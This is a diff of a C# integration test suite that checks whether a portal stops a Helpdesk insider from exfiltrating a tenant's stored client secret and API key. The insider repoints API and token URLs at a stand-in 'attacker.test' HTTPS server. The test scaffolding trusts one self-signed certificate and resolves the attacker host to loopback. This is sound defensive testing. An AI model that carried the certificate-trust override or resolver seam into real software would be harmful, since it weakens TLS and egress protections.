@@ -1,9 +1,16 @@
 using System.Collections.Concurrent;
+using System.Net;
+using System.Net.Security;
+using System.Security.Cryptography;
+using System.Security.Cryptography.X509Certificates;
 using System.Text;
 using Microsoft.AspNetCore.Builder;
 using Microsoft.AspNetCore.Hosting;
 using Microsoft.AspNetCore.Http;
+using Microsoft.AspNetCore.TestHost;
 using Microsoft.Extensions.DependencyInjection;
+using Microsoft.Extensions.Http;
+using Portal.Integrations.Egress;
 using Portal.Features.Audit;
 using Portal.Features.Regions;
 using Portal.Features.Setup;
@@ -17,12 +24,14 @@ namespace Portal.IntegrationTests.Features.Tenants;
 
 /// <summary>
 /// A curious Helpdesk user tries to get the demo tenant's stored client secret and REST API key out of the portal:
-/// by pointing the tenant at a server of theirs (a real listener on loopback, which the portal can reach) and letting
-/// the status check call it, or by revealing the secret in a run of their own. Nothing stored may reach them.
+/// by pointing the tenant at a server of theirs and letting the status check call it, or by revealing the secret in a
+/// run of their own. Nothing stored may reach them. The attacker's server is a real HTTPS listener named
+/// <see cref="AttackerServer.HostName"/> that the portal can reach (its name resolves to loopback, loopback is in
+/// Egress:AllowedNetworks and its certificate is trusted), so only the secret rules stand between it and the secrets.
 /// </summary>
 public sealed class SecretExfiltrationTests : IAsyncLifetime
 {
-    private readonly PortalAppFactory _portal = new PortalAppFactory().WithSetting("Status:SweepEnabled", "false");
+    private PortalAppFactory _portal = default!;
     private AttackerServer _attacker = default!;
     private int _tenantId;
 
@@ -30,8 +39,9 @@ public sealed class SecretExfiltrationTests : IAsyncLifetime
 
     public async ValueTask InitializeAsync()
     {
-        await _portal.InitializeAsync();
         _attacker = await AttackerServer.StartAsync();
+        _portal = new PortalReachingTheAttacker(_attacker).WithSetting("Status:SweepEnabled", "false").WithSetting("Egress:AllowedNetworks:0", "127.0.0.0/8");
+        await _portal.InitializeAsync();
         await using var scope = Helpdesk();
         var setup = scope.ServiceProvider.GetRequiredService<SetupService>();
         _tenantId = (await scope.ServiceProvider.GetRequiredService<TenantService>().SearchAsync("Demo Customer", 5, Ct)).Single().Id;
@@ -55,24 +65,16 @@ public sealed class SecretExfiltrationTests : IAsyncLifetime
     }
 
     [Fact]
-    public async Task ApiHostMovedToTheAttacker_StoredKeyAndSecretAreRemovedAndNeverSentThere()
+    public async Task ApiHostMovedToTheAttacker_IsRefusedAtSave_AndNothingIsSentThere()
     {
+        // A Simulated-region tenant talks only to the built-in simulator: the edit itself is refused, naming the field.
         var saved = await EditAsync(m => m.UemApiUrl = _attacker.BaseUrl + "/API");
 
-        saved.Succeeded.ShouldBeTrue(saved.Message);
-        saved.Warnings.ShouldContain(w => w.Contains("removed", StringComparison.Ordinal) && w.Contains("REST API host", StringComparison.Ordinal));
-        await AssertSecretsRemovedAsync(TenantSecretKind.UemClientSecret, TenantSecretKind.UemApiKey);
-        var row = await SweepAsync();
-        row.Status.ShouldBe(ConnectionStatus.NotConfigured);
-        row.Diagnosis.ShouldBe(StatusSweeper.NeedsCredentialsDiagnosis);
+        saved.Succeeded.ShouldBeFalse();
+        saved.Errors.ShouldContainKey(nameof(TenantEditModel.UemApiUrl));
+        await AssertSecretsStoredAsync(TenantSecretKind.UemClientSecret, TenantSecretKind.UemApiKey);
+        (await SweepAsync()).Status.ShouldBe(ConnectionStatus.Connected);
         _attacker.Requests.ShouldBeEmpty();
-
-        // The attacker's host is reachable: once the Helpdesk user types a key of their own, the check calls it with that key only.
-        (await EditAsync(m => { m.NewUemClientSecret = SimulatorDemo.ClientSecret; m.NewUemApiKey = "key-typed-by-the-insider"; })).Succeeded.ShouldBeTrue();
-        await SweepAsync();
-        _attacker.Requests.ShouldNotBeEmpty();
-        _attacker.Requests.ShouldContain(r => r.Contains("key-typed-by-the-insider", StringComparison.Ordinal));
-        _attacker.Requests.ShouldAllBe(r => !r.Contains(SimulatorDemo.ApiKey, StringComparison.Ordinal));
     }
 
     [Fact]
@@ -80,41 +82,44 @@ public sealed class SecretExfiltrationTests : IAsyncLifetime
     {
         var region = await CreateCustomRegionAsync("evil", _attacker.BaseUrl + "/connect/token");
 
-        var saved = await EditAsync(m => { m.UemRegionId = region; m.UemTokenUrl = ""; });
+        var saved = await EditAsync(m => { m.UemRegionId = region; m.UemTokenUrl = ""; m.UemApiUrl = _attacker.BaseUrl + "/API"; m.UemConsoleUrl = _attacker.BaseUrl; });
 
-        saved.Succeeded.ShouldBeTrue(saved.Message);
+        saved.Succeeded.ShouldBeTrue(Describe(saved));
+        saved.Warnings.ShouldContain(w => w.Contains("removed", StringComparison.Ordinal) && w.Contains("REST API host", StringComparison.Ordinal));
         await AssertSecretsRemovedAsync(TenantSecretKind.UemClientSecret, TenantSecretKind.UemApiKey);
-        (await SweepAsync()).Status.ShouldBe(ConnectionStatus.NotConfigured);
+        var row = await SweepAsync();
+        row.Status.ShouldBe(ConnectionStatus.NotConfigured);
+        row.Diagnosis.ShouldBe(StatusSweeper.NeedsCredentialsDiagnosis);
         _attacker.Requests.ShouldBeEmpty();
         var update = (await AuditAsync()).First(e => e.Action == "tenant.update" && e.Outcome == AuditOutcome.Success);
         update.DetailsJson.ShouldContain("secretsRemoved");
         update.DetailsJson.ShouldContain(nameof(TenantSecretKind.UemClientSecret));
 
-        (await EditAsync(m => m.NewUemClientSecret = "secret-typed-by-the-insider")).Succeeded.ShouldBeTrue();
+        // The attacker's host is reachable: what the insider types themselves arrives there, never what was stored.
+        (await EditAsync(m => { m.NewUemClientSecret = "secret-typed-by-the-insider"; m.NewUemApiKey = "key-typed-by-the-insider"; })).Succeeded.ShouldBeTrue();
         await SweepAsync();
-        _attacker.Requests.ShouldContain(r => r.Contains("secret-typed-by-the-insider", StringComparison.Ordinal)); // reachable
-        _attacker.Requests.ShouldAllBe(r => !r.Contains(SimulatorDemo.ClientSecret, StringComparison.Ordinal));
+        _attacker.Requests.ShouldContain(r => r.Contains("secret-typed-by-the-insider", StringComparison.Ordinal));
+        _attacker.Requests.ShouldContain(r => r.Contains("key-typed-by-the-insider", StringComparison.Ordinal));
+        _attacker.Requests.ShouldAllBe(r => !r.Contains(SimulatorDemo.ClientSecret, StringComparison.Ordinal) && !r.Contains(SimulatorDemo.ApiKey, StringComparison.Ordinal));
     }
 
     [Fact]
-    public async Task TokenUrlEditedToTheAttackersHost_StoredSecretIsNeverPostedThere()
+    public async Task TokenUrlEditedToTheAttackersHost_IsRefusedAtSave_AndTheStoredSecretIsNeverPostedThere()
     {
-        // The tenant already lives on a custom region (token URL editable) with secrets entered for its lab host.
+        // The tenant already lives on a custom region with secrets entered for its lab host.
         var lab = await CreateCustomRegionAsync("lab", "https://uem-lab.example.net/connect/token");
-        (await EditAsync(m => { m.UemRegionId = lab; m.UemTokenUrl = ""; m.NewUemClientSecret = SimulatorDemo.ClientSecret; m.NewUemApiKey = SimulatorDemo.ApiKey; }))
-            .Succeeded.ShouldBeTrue();
+        (await EditAsync(m => { m.UemRegionId = lab; m.UemTokenUrl = ""; m.UemApiUrl = "https://uem-lab.example.net/API"; m.UemConsoleUrl = "https://uem-lab.example.net"; m.NewUemClientSecret = SimulatorDemo.ClientSecret; m.NewUemApiKey = SimulatorDemo.ApiKey; }))
+            .ShouldSatisfyAllConditions(r => r.Succeeded.ShouldBeTrue(Describe(r)));
         await AssertSecretsStoredAsync(TenantSecretKind.UemClientSecret, TenantSecretKind.UemApiKey);
 
+        // A Custom region's token URL is pinned (Admin-only): a Helpdesk edit of the tenant's token URL is refused.
         var saved = await EditAsync(m => m.UemTokenUrl = _attacker.BaseUrl + "/connect/token");
 
-        saved.Succeeded.ShouldBeTrue(saved.Message);
-        await AssertSecretsRemovedAsync(TenantSecretKind.UemClientSecret, TenantSecretKind.UemApiKey);
-        (await SweepAsync()).Status.ShouldBe(ConnectionStatus.NotConfigured);
-        _attacker.Requests.ShouldBeEmpty();
-        (await EditAsync(m => m.NewUemClientSecret = "secret-typed-by-the-insider")).Succeeded.ShouldBeTrue();
+        saved.Succeeded.ShouldBeFalse();
+        saved.Errors.ShouldContainKey(nameof(TenantEditModel.UemTokenUrl));
+        await AssertSecretsStoredAsync(TenantSecretKind.UemClientSecret, TenantSecretKind.UemApiKey);
         await SweepAsync();
-        _attacker.Requests.ShouldContain(r => r.Contains("secret-typed-by-the-insider", StringComparison.Ordinal)); // reachable
-        _attacker.Requests.ShouldAllBe(r => !r.Contains(SimulatorDemo.ClientSecret, StringComparison.Ordinal));
+        _attacker.Requests.ShouldBeEmpty();
     }
 
     [Fact]
@@ -133,7 +138,7 @@ public sealed class SecretExfiltrationTests : IAsyncLifetime
     {
         var saved = await EditAsync(m => m.Notes = "Customer prefers e-mail.");
 
-        saved.Succeeded.ShouldBeTrue(saved.Message);
+        saved.Succeeded.ShouldBeTrue(Describe(saved));
         saved.Warnings.ShouldBeEmpty();
         await AssertSecretsStoredAsync(TenantSecretKind.UemClientSecret, TenantSecretKind.UemApiKey, TenantSecretKind.IntelligenceClientSecret);
     }
@@ -175,6 +180,9 @@ public sealed class SecretExfiltrationTests : IAsyncLifetime
         reveal.Succeeded.ShouldBeFalse();
         reveal.Secret.ShouldBeNull();
     }
+
+    private static string Describe(TenantSaveResult result) =>
+        $"{result.Message} {string.Join(" ", result.Errors.Select(e => $"{e.Key}: {string.Join(" ", e.Value)}"))}";
 
     private AsyncServiceScope Helpdesk() => _portal.Services.ScopeFor("helen", Roles.Helpdesk);
 
@@ -240,12 +248,16 @@ public sealed class SecretExfiltrationTests : IAsyncLifetime
 /// </summary>
 public sealed class AttackerServer : IAsyncDisposable
 {
+    /// <summary>The name the insider gives their server; the test portal resolves it to loopback.</summary>
+    public const string HostName = "attacker.test";
+
     private readonly WebApplication _app;
 
     private AttackerServer()
     {
+        Certificate = SelfSignedCertificate();
         var builder = WebApplication.CreateSlimBuilder();
-        builder.WebHost.UseUrls("http://127.0.0.1:0");
+        builder.WebHost.ConfigureKestrel(kestrel => kestrel.Listen(IPAddress.Loopback, 0, listen => listen.UseHttps(Certificate)));
         _app = builder.Build();
         _app.Run(async http =>
         {
@@ -268,7 +280,20 @@ public sealed class AttackerServer : IAsyncDisposable
 
     public ConcurrentQueue<string> Requests { get; } = new();
 
-    public string BaseUrl => _app.Urls.First();
+    public X509Certificate2 Certificate { get; }
+
+    public string BaseUrl => $"https://{HostName}:{new Uri(_app.Urls.First()).Port}";
+
+    private static X509Certificate2 SelfSignedCertificate()
+    {
+        using var key = RSA.Create(2048);
+        var request = new CertificateRequest($"CN={HostName}", key, HashAlgorithmName.SHA256, RSASignaturePadding.Pkcs1);
+        var names = new SubjectAlternativeNameBuilder();
+        names.AddDnsName(HostName);
+        request.CertificateExtensions.Add(names.Build());
+        using var certificate = request.CreateSelfSigned(DateTimeOffset.UtcNow.AddDays(-1), DateTimeOffset.UtcNow.AddDays(1));
+        return X509CertificateLoader.LoadPkcs12(certificate.Export(X509ContentType.Pfx), null);
+    }
 
     public static async Task<AttackerServer> StartAsync()
     {
@@ -281,5 +306,39 @@ public sealed class AttackerServer : IAsyncDisposable
     {
         await _app.StopAsync();
         await _app.DisposeAsync();
+        Certificate.Dispose();
+    }
+}
+
+/// <summary>
+/// The demo portal, able to reach the insider's server as a real host would be: its name resolves to loopback through
+/// the egress guard's resolver seam, and its self-signed certificate (that one only) is trusted.
+/// </summary>
+internal sealed class PortalReachingTheAttacker(AttackerServer attacker) : PortalAppFactory
+{
+    protected override void ConfigureWebHost(IWebHostBuilder builder)
+    {
+        base.ConfigureWebHost(builder);
+        var thumbprint = attacker.Certificate.Thumbprint;
+        builder.ConfigureTestServices(services =>
+        {
+            services.AddSingleton<IEgressResolver>(new AttackerResolver());
+            services.ConfigureAll<HttpClientFactoryOptions>(options => options.HttpMessageHandlerBuilderActions.Add(handlers =>
+            {
+                if (handlers.PrimaryHandler is SocketsHttpHandler sockets)
+                {
+                    sockets.SslOptions.RemoteCertificateValidationCallback = (_, certificate, _, errors) =>
+                        errors == SslPolicyErrors.None || (certificate is not null && certificate.GetCertHashString() == thumbprint);
+                }
+            }));
+        });
+    }
+
+    private sealed class AttackerResolver : IEgressResolver
+    {
+        public async Task<IPAddress[]> ResolveAsync(string host, CancellationToken cancellationToken) =>
+            string.Equals(host, AttackerServer.HostName, StringComparison.OrdinalIgnoreCase)
+                ? [IPAddress.Loopback]
+                : await Dns.GetHostAddressesAsync(host, cancellationToken);
     }
 }
